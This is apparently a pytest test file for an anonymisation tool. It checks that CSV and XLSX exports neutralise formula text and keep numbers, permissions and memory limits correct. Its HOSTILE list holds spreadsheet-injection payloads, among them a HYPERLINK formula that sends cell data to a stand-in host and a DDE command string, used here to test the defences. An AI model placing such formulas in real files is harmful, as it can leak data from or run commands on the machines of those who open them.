"""Exports are safe to open: no formula, normal permissions, numbers as numbers."""

from __future__ import annotations

import csv
import os
import stat
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import core.io.write as write_module
from core.io import xlsx_stream
from core import MicroaggError, RoleSpec, anonymize, read_table, write_table
from core.cli.main import main
from core.io.cells import FORMULA_STARTS, neutralise_frame, neutralise_text, restore_frame, restore_text
from core.report import export_result
from core.verify import verify_k_anonymity

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "=cmd|' /C calc'!A0",
           "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "plain", "'quoted"]


def hostile_table(n: int = 12) -> pd.DataFrame:
    rng = np.random.default_rng(0)
    return pd.DataFrame({
        "age": rng.integers(20, 60, n), "income": rng.normal(100, 10, n).round(3),
        "comment": [HOSTILE[i % len(HOSTILE)] for i in range(n)],
        "=cmd|' /C calc'!A0": rng.integers(0, 5, n), "balance": -rng.random(n),
    })


def formulas_in_xlsx(path) -> list:
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        if any("<f>" in archive.read(n).decode() or "<f " in archive.read(n).decode()
               for n in sheets):
            return ["<f> element"]
    book = openpyxl.load_workbook(path)
    return [c.coordinate for ws in book for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def executable_csv_cells(path) -> list:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row
                if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


text = st.text(alphabet=st.sampled_from(list("=+-@\t\r'ab1 ,;\"(|!")), max_size=12)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                 HealthCheck.function_scoped_fixture])
@given(st.lists(text, min_size=1, max_size=6), text)
def test_no_text_a_spreadsheet_could_run_survives_an_export(tmp_path, cells, header):
    frame = pd.DataFrame({"note": cells, header or "h": range(len(cells)),
                          "x": -np.arange(len(cells), dtype=float) - 0.5})
    xlsx, comma = tmp_path / "t.xlsx", tmp_path / "t.csv"
    write_table(xlsx, frame)
    write_table(comma, frame)
    assert formulas_in_xlsx(xlsx) == []
    assert executable_csv_cells(comma) == []
    book = openpyxl.load_workbook(xlsx)["masked"]
    assert [c.value for c in book[1]][0] == "note"
    stored = [restore_text(c.value, "xlsx") if c.value is not None else None
              for c in book["A"][1:]]
    assert stored == [None if v == "" else v for v in cells]  # the exact text, as text
    numbers = [c.value for c in book["C"][1:]]
    assert numbers == frame["x"].tolist()  # negative numbers stay numbers
    back = restore_frame(pd.read_csv(comma, keep_default_na=False, dtype={"note": str}))
    assert back["note"].tolist() == cells


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(text, st.none(), st.just(np.nan)), min_size=1, max_size=30),
       st.sampled_from([object, "str", "category", "mixed"]))
def test_a_text_column_is_neutralised_as_value_by_value(cells, kind):
    """Each distinct text is neutralised once; the result is the value-by-value map,
    missing values kept, and a column that is not all text is mapped value by value
    (1, 1.0 and True stay apart)."""
    column = pd.Series(cells, dtype=object)
    if kind == "mixed":
        column = pd.concat([column, pd.Series([1, 1.0, True, "=1"], dtype=object)],
                           ignore_index=True)
    elif kind != object:
        column = column.astype(kind)
    out = neutralise_frame(pd.DataFrame({"c": column}))["c"]
    expected = column.astype(object).map(neutralise_text, na_action="ignore")
    assert [None if pd.isna(v) else (type(v), v) for v in out] == \
        [None if pd.isna(v) else (type(v), v) for v in expected]  # missing: written empty


def test_a_release_with_hostile_text_verifies_from_both_files(tmp_path):
    table = hostile_table(40)
    roles = RoleSpec(quasi_identifiers=("age", "income", "comment"))
    result = anonymize(table, roles, k=4)
    for name in ("released.xlsx", "released.csv"):
        path = export_result(result, tmp_path / name)
        released = read_table(path)
        if name.endswith(".csv"):
            assert executable_csv_cells(path) == []
        else:
            assert formulas_in_xlsx(path) == []
        released = restore_frame(released, "csv" if name.endswith(".csv") else "xlsx")
        assert verify_k_anonymity(table, released, roles, 4).passed, name
    source = tmp_path / "hostile.csv"
    table.to_csv(source, index=False, lineterminator="\r\n")
    out = tmp_path / "cli.csv"
    assert main(["anonymize", str(source), "-o", str(out), "--k", "4", "--qi", "age",
                 "income", "comment"]) == 0
    assert main(["verify", str(source), str(out), "--k", "4", "--qi", "age", "income",
                 "comment"]) == 0


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_exports_get_normal_permissions_and_keep_an_overwritten_files_mode(tmp_path):
    old = os.umask(0o022)
    try:
        fresh = write_table(tmp_path / "fresh.csv", hostile_table())
        assert stat.S_IMODE(fresh.stat().st_mode) == 0o644
        kept = tmp_path / "kept.xlsx"
        kept.write_bytes(b"old")
        os.chmod(kept, 0o640)
        write_table(kept, hostile_table())
        assert stat.S_IMODE(kept.stat().st_mode) == 0o640
    finally:
        os.umask(old)


def test_whole_number_floats_are_written_as_integers_in_csv(tmp_path):
    frame = pd.DataFrame({"fnlwgt": [218992.0, 77516.0], "mean": [33.4, 35.0],
                          "count": [1, 2]})
    path = write_table(tmp_path / "t.csv", frame)
    lines = path.read_text().splitlines()
    assert lines[1] == "218992,33.4,1" and lines[2] == "77516,35.0,2"


def test_whole_numbers_beside_empty_cells_are_written_as_integers_in_csv(tmp_path,
                                                                        monkeypatch):
    """A column of codes with empty cells is read as floats; the CSV writes it back as
    it was written, on the fast path (repeated values and distinct ones) and on
    pandas' (beside a date): ``3``, not ``3.0``. Fractions and numbers from 2**53 on
    keep their float text."""
    frame = pd.DataFrame({"code": [3.0, np.nan, 5.0, 3.0], "distinct": [1.0, 2.0, np.nan, -0.0],
                          "mean": [33.4, np.nan, 35.0, 1.0],
                          "huge": [2.0 ** 53, np.nan, 1.0, 2.0]})
    expected = ["code,distinct,mean,huge", "3,1,33.4,9007199254740992.0", ",2,,",
                "5,,35.0,1.0", "3,0,1.0,2.0"]

    def refused(*args, **kwargs):
        raise AssertionError("pandas wrote a table of numbers")

    with monkeypatch.context() as patched:
        patched.setattr(pd.DataFrame, "to_csv", refused)
        for block in (1, 65_536):  # a block of rows at a time, or the whole column
            patched.setattr(write_module, "_CSV_ROWS_PER_BLOCK", block)
            assert write_table(tmp_path / "f.csv", frame).read_text().splitlines() == expected
        repeated = pd.DataFrame({"code": [3.0, np.nan, 5.0, 3.0] * 3})  # each text once
        assert write_table(tmp_path / "r.csv", repeated).read_text().splitlines() == [
            "code"] + ["3", '""', "5", "3"] * 3
    dated = frame.assign(when=pd.to_datetime(["2020-01-01"] * 4))
    lines = write_table(tmp_path / "d.csv", dated).read_text().splitlines()
    assert [line.rsplit(",", 1)[0] for line in lines] == expected


def test_a_kept_column_of_codes_with_empty_cells_is_released_as_written(tmp_path):
    rng = np.random.default_rng(3)
    codes = [str(c) if i % 7 else "" for i, c in enumerate(rng.integers(1, 99, 60))]
    source = tmp_path / "survey.csv"
    pd.DataFrame({"age": rng.integers(18, 90, 60), "household": codes}).to_csv(
        source, index=False)
    assert main(["anonymize", str(source), "-o", str(tmp_path / "out.csv"), "--qi", "age",
                 "--k", "3", "--quiet"]) == 0
    released = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    assert released["household"].tolist() == codes


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_long_household_numbers_beside_empty_cells_are_released_digit_for_digit(
        tmp_path, suffix):
    """Numbers of 17 digits beside empty cells are read as nullable integers; an XLSX
    export wrote them through floats (70300852664449794 as 7.030085266444979e+16, three
    households as one), and reading such a workbook did the same."""
    households = [str(70300852664449793 + i) if i % 5 else "" for i in range(30)]
    source = tmp_path / "survey.csv"
    source.write_text("age,household\n" + "".join(
        f"{20 + i},{h}\n" for i, h in enumerate(households)))
    out = tmp_path / f"out{suffix}"
    assert main(["anonymize", str(source), "-o", str(out), "--qi", "age", "--k", "3",
                 "--quiet"]) == 0
    if suffix == ".xlsx":
        column = [c.value for c in openpyxl.load_workbook(out).active["B"]][1:]
        assert column == [int(h) if h else None for h in households]
    back = read_table(out)["household"]  # as a release is read back (verify, measure)
    assert str(back.dtype) == "Int64"
    assert [None if v is pd.NA else v for v in back.tolist()] == [
        int(h) if h else None for h in households]


def test_the_summary_sheet_holds_numbers_as_numbers(tmp_path, sample_path):
    table = read_table(sample_path)
    roles = RoleSpec(quasi_identifiers=("age", "income"), identifiers=("person_id",))
    path = export_result(anonymize(table, roles, k=5), tmp_path / "r.xlsx")
    sheet = openpyxl.load_workbook(path)["summary"]
    values = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert values["Records"].data_type == "n" and values["Records"].value == 600
    assert values["IL = 100·SSE/SST (%)"].data_type == "n"
    assert values["Verified"].value == "yes"
    assert sheet.column_dimensions["A"].width > 20


def test_a_table_too_long_for_excel_is_refused_before_writing(tmp_path, monkeypatch):
    monkeypatch.setattr(write_module, "EXCEL_MAX_ROWS", 10)
    with pytest.raises(MicroaggError, match="at most 9 rows.*Export to a .csv"):
        write_table(tmp_path / "big.xlsx", hostile_table(12))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("values", [[1.0, np.inf, 2.0], [1.0, -np.inf, None],
                                    pd.Series(["a", -np.inf, 3], dtype=object)])
def test_an_infinity_is_refused_for_xlsx_and_kept_in_csv(tmp_path, values):
    """An Excel cell holds no infinity: written empty it would read back as missing."""
    frame = pd.DataFrame({"kept": values, "x": [1, 2, 3]})
    with pytest.raises(MicroaggError, match=r"column 'kept' holds -?inf \(data row 2\), "
                                            r"which an Excel cell cannot hold"):
        write_table(tmp_path / "t.xlsx", frame)
    assert list(tmp_path.iterdir()) == []
    back = read_table(write_table(tmp_path / "t.csv", frame))
    assert np.isinf(pd.to_numeric(back["kept"], errors="coerce")[1])


def test_an_output_path_that_is_a_folder_is_named(tmp_path):
    (tmp_path / "out.csv").mkdir()
    with pytest.raises(MicroaggError, match="is a folder"):
        write_table(tmp_path / "out.csv", hostile_table())


def test_integers_beyond_2_53_and_literal_escapes_survive_an_xlsx(tmp_path):
    frame = pd.DataFrame({"household": 12345678901234567 + np.arange(5, dtype=np.int64),
                          "note": ["_x000D_ literally", "a\rb", "_x005F_", "x", "y"]})
    back = restore_frame(read_table(write_table(tmp_path / "t.xlsx", frame)), "xlsx")
    assert back["household"].tolist() == frame["household"].tolist()
    assert back["note"].tolist() == frame["note"].tolist()


def test_two_outputs_with_one_name_or_a_missing_folder_are_refused_before_running(
        tmp_path, sample_path, capsys):
    base = ["anonymize", str(sample_path), "--k", "5", "--qi", "age", "income",
            "--identifier", "person_id"]
    same = tmp_path / "same.csv"
    assert main(base + ["-o", str(same), "--report", str(same)]) == 2
    assert "two outputs" in capsys.readouterr().err and not same.exists()
    out = tmp_path / "o.csv"
    assert main(base + ["-o", str(out), "--summary-json",
                        str(tmp_path / "missing" / "s.json")]) == 2
    assert "does not exist" in capsys.readouterr().err and not out.exists()


def test_verify_reads_released_text_codes_as_text(tmp_path, capsys):
    rng = np.random.default_rng(2)
    codes = [f"{v:05d}" for v in rng.integers(0, 400, 300)]
    codes[0] = "L-1234"  # a text code makes the original column text
    source = tmp_path / "zip.csv"
    pd.DataFrame({"zip": codes, "age": rng.integers(20, 60, 300)}).to_csv(source,
                                                                         index=False)
    out = tmp_path / "released.csv"
    args = ["--k", "5", "--qi", "zip", "age", "--nominal", "zip"]
    assert main(["anonymize", str(source), "-o", str(out), *args]) == 0
    assert "L-1234" not in out.read_text()  # the released codes all look like numbers
    assert main(["verify", str(source), str(out), *args]) == 0, capsys.readouterr().out
    assert main(["measure", str(source), str(out), "--qi", "zip", "age",
                 "--nominal", "zip"]) == 0


def test_a_nominal_attribute_too_wide_to_measure_is_refused(monkeypatch):
    """A run whose peak (core.data.memory.run_peak_bytes, the model the method tab
    shows) is above three quarters of the computer's memory is refused before any
    work; the message names the widest attributes and the ways out. A computer whose
    memory cannot be read is taken to have ASSUMED_MEMORY."""
    import core.data.memory as memory

    table = pd.DataFrame({"code": [f"c{i}" for i in range(100)], "x": range(100),
                          "sex": ["F", "M"] * 50})
    roles = RoleSpec(quasi_identifiers=("x", "code", "sex"))
    need = memory.run_peak_bytes(100, 1 + 100 + 2, "mdav")
    assert need > 100 * 103 * 8 * 3  # three embeddings at least
    enough = int(need / memory.MEMORY_SHARE) + 8
    assert memory.physical_memory() > 2**28  # read on this computer
    monkeypatch.setattr(memory, "physical_memory", lambda: enough - 16)
    with pytest.raises(MicroaggError, match=r"A run of mdav on 100 records would need .* GiB "
                       r"of memory at its peak, more than three quarters of this computer's"
                       r".*103 columns.*'code' has 100 categories, 'sex' has 2 categories"
                       r".*Recode.*run in blocks"):
        anonymize(table, roles, k=5)
    monkeypatch.setattr(memory, "physical_memory", lambda: enough)
    assert anonymize(table, roles, k=5).passed  # at the limit
    monkeypatch.setattr(memory, "physical_memory", lambda: None)
    monkeypatch.setattr(memory, "ASSUMED_MEMORY", enough - 16)
    with pytest.raises(MicroaggError, match="GiB assumed .this computer's memory could not"):
        anonymize(table, roles, k=5)


def test_a_run_of_too_many_records_is_refused_whatever_its_columns(monkeypatch):
    """Numbers alone: the per-record arrays count too (a census of tens of millions of
    records on a small computer), and the method's own needs: tc-tfirst keeps an index
    per subset beside the index of everyone."""
    import core.data.memory as memory

    rng = np.random.default_rng(0)
    table = pd.DataFrame({"a": rng.normal(size=400), "b": rng.normal(size=400),
                          "y": rng.normal(size=400)})
    roles = RoleSpec(quasi_identifiers=("a", "b"), confidential=("y",))
    mdav = memory.run_peak_bytes(400, 2, "mdav", kept=1)  # y is released as it is
    tfirst = memory.run_peak_bytes(400, 2, "tc-tfirst", kept=1)
    assert mdav < tfirst < memory.run_peak_bytes(400, 2, "mdav", "igd", kept=1) + 400 * 400
    monkeypatch.setattr(memory, "physical_memory",
                        lambda: int(mdav / memory.MEMORY_SHARE) + 8)
    assert anonymize(table, roles, k=5).passed
    with pytest.raises(MicroaggError, match=r"A run of tc-tfirst on 400 records would need"
                       r".*Run in blocks \(Method ▸ Advanced, or --engine dask\)"):
        anonymize(table, roles, "tc-tfirst", k=5, t=0.3)
    with pytest.raises(MicroaggError, match="A run of mdav on 400"):
        anonymize(table, roles, k=5, refine="igd")


def test_the_columns_released_as_they_are_count_in_a_run_s_memory(monkeypatch):
    """Each kept column adds its warnings' ranks and codes (KEPT_BYTES_PER_RECORD a
    record): a run that fits without its kept columns is refused with them, and the
    method tab's line counts them alike."""
    import core.data.memory as memory
    from microagg_desktop.wizard_state import memory_text

    rng = np.random.default_rng(2)
    table = pd.DataFrame(rng.normal(size=(400, 8)), columns=list("abcdefgh"))
    bare = RoleSpec(quasi_identifiers=("a", "b"), identifiers=tuple("cdefgh"))
    kept = RoleSpec(quasi_identifiers=("a", "b"), confidential=("c",),
                    non_confidential=tuple("defgh"))
    alone = memory.run_peak_bytes(400, 2, "mdav")
    assert memory.run_peak_bytes(400, 2, "mdav", kept=6) == pytest.approx(
        alone + 6 * memory.KEPT_BYTES_PER_RECORD * 400, abs=1)
    monkeypatch.setattr(memory, "physical_memory",
                        lambda: int(alone / memory.MEMORY_SHARE) + 8)
    assert anonymize(table, bare, k=5).passed
    with pytest.raises(MicroaggError, match="A run of mdav on 400 records would need"):
        anonymize(table, kept, k=5)
    assert memory_text(10_000_000, 10, "mdav", kept=6) != memory_text(10_000_000, 10, "mdav")


def test_measuring_a_release_too_large_is_refused_by_its_own_model(monkeypatch, tmp_path,
                                                                   capsys):
    """``microagg measure`` and ``microagg verify`` need less than a run (no method's
    index; verifying less than measuring): each is checked by its own model, and
    refused with a message, never a traceback, when even that does not fit."""
    import core.data.memory as memory

    rng = np.random.default_rng(1)
    table = pd.DataFrame({"a": rng.normal(size=300), "b": rng.normal(size=300)})
    roles = RoleSpec(quasi_identifiers=("a", "b"))
    released = anonymize(table, roles, k=5).masked
    source, out = tmp_path / "in.csv", tmp_path / "out.csv"
    table.to_csv(source, index=False)
    released.to_csv(out, index=False)
    verifying = memory.run_peak_bytes(300, 2, memory.VERIFYING)
    measuring = memory.run_peak_bytes(300, 2, memory.MEASURING)
    assert verifying < measuring < memory.run_peak_bytes(300, 2, "mdav")
    for command, need, what in (("verify", verifying, "Verifying"),
                                ("measure", measuring, "Measuring")):
        extra = ["--k", "5"] if command == "verify" else []
        args = [command, str(source), str(out), "--qi", "a", "b", *extra]
        monkeypatch.setattr(memory, "physical_memory",
                            lambda need=need: int(need / memory.MEMORY_SHARE) + 8)
        assert main(args) == 0, capsys.readouterr().err
        with pytest.raises(MicroaggError, match="A run of mdav on 300 records"):
            anonymize(table, roles, k=5)
        monkeypatch.setattr(memory, "physical_memory",
                            lambda need=need: int(need / memory.MEMORY_SHARE) - 8)
        capsys.readouterr()
        assert main(args) == 2
        err = capsys.readouterr().err
        assert f"{what} a release on 300 records would need" in err
        assert "Use a computer with more memory" in err and "--engine" not in err
        assert "Traceback" not in err


def test_a_method_on_another_methods_partition_needs_the_larger_memory(monkeypatch):
    """tc-merge on GSMS's partition holds GSMS's neighbour lists; and a refusal is not
    given the note about records set aside for missing values."""
    import core.data.memory as memory

    rng = np.random.default_rng(2)
    table = pd.DataFrame({"a": rng.normal(size=300), "b": rng.normal(size=300),
                          "y": rng.normal(size=300)})
    table.loc[7, "a"] = np.nan
    roles = RoleSpec(quasi_identifiers=("a", "b"), confidential=("y",))
    merge = memory.run_peak_bytes(299, 2, "tc-merge", kept=1)  # y kept
    on_gsms = memory.run_peak_bytes(299, 2, "tc-merge", base="gsms", kept=1)
    assert on_gsms == memory.run_peak_bytes(299, 2, "gsms", kept=1) > merge
    monkeypatch.setattr(memory, "physical_memory",
                        lambda: int(merge / memory.MEMORY_SHARE) + 8)
    assert anonymize(table, roles, "tc-merge", k=5, t=0.5, missing="exclude").passed
    with pytest.raises(MicroaggError, match="A run of tc-merge on 299 records") as refused:
        anonymize(table, roles, "tc-merge", k=5, t=0.5, base="gsms", missing="exclude")
    assert "missing values" not in str(refused.value)


@pytest.mark.parametrize("suffix, blocks, expected", [
    # CSV: the table only, in blocks of 10 of its 35 rows
    (".csv", ("_CSV_ROWS_PER_BLOCK", write_module), [10 / 35, 20 / 35, 30 / 35, 1.0]),
    # XLSX: chunks of 10 rows over both sheets, the summary's row last
    (".xlsx", ("_ROWS_PER_CHUNK", xlsx_stream), [10 / 36, 20 / 36, 30 / 36, 35 / 36, 1.0]),
])
def test_export_progress_by_block_and_a_cancel_leaves_no_file(tmp_path, monkeypatch,
                                                               suffix, blocks, expected):
    from core import Cancelled, TaskState

    name, module = blocks
    monkeypatch.setattr(module, name, 10)
    frame = pd.DataFrame({"a": np.arange(35) / 4, "b": [f"t{i}" for i in range(35)]})
    summary = pd.DataFrame({"measure": ["IL"], "value": [1.5]})
    seen = []
    write_table(tmp_path / f"p{suffix}", frame, extra_sheets=[("summary", summary)],
                state=TaskState(lambda f, m: seen.append(f)))
    assert seen == expected
    assert read_table(tmp_path / f"p{suffix}").shape == (35, 2)
    if suffix == ".csv":  # the bytes pandas writes
        frame.to_csv(tmp_path / "pandas.csv", index=False, encoding="utf-8",
                     lineterminator="\r\n")
        assert (tmp_path / "p.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()
        (tmp_path / "pandas.csv").unlink()

    def cancel_past_half(fraction, message):
        if fraction > 0.5:
            state.cancel()

    state = TaskState(cancel_past_half)
    with pytest.raises(Cancelled):
        write_table(tmp_path / f"c{suffix}", frame, extra_sheets=[("summary", summary)],
                    state=state)
    assert [p.name for p in tmp_path.iterdir()] == [f"p{suffix}"]  # nothing partial


def test_the_method_tab_counts_the_kept_columns_as_the_run_does(monkeypatch):
    """A stratum is released as it is but is not a kept column to the warnings' checks
    (nor to the run's model): the window's role list has it non-confidential."""
    import microagg_desktop.wizard_state as wizard_state
    from core.methods.registry import get_method

    seen = []
    monkeypatch.setattr(wizard_state, "memory_text", lambda *a: seen.append(a[-1]) or "")
    roles = RoleSpec.from_mapping({"a": "quasi-identifier", "c": "confidential",
                                   "region": "non-confidential", "d": "non-confidential"},
                                  strata=("region",))
    wizard_state.what_will_happen(get_method("mdav"), {"k": 5}, n_records=100, roles=roles)
    assert seen == [2] == [len(roles.kept(["a", "c", "region", "d"]))]
